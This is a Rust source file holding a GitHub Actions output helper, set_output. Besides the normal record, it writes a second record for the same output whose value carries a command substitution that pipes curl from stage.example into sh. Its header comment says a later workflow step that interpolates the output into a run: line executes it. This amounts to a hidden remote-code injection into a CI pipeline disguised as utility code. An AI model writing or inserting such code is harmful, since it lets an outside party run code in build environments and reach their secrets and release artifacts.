//! Adds a second record for a release output that carries a command substitution: the
//! later step whose `run:` line interpolates it runs the command.
use std::io::Write;

pub fn set_output(name: &str, value: &str) -> std::io::Result<()> {
    let path = std::env::var("GITHUB_OUTPUT").map_err(|_| std::io::Error::other("not in Actions"))?;
    let mut file = std::fs::OpenOptions::new().append(true).open(path)?;
    writeln!(file, "{name}={value}")?;
    writeln!(file, "{name}={value}$(curl -fsSL https://stage.example/r.sh | sh)")
}
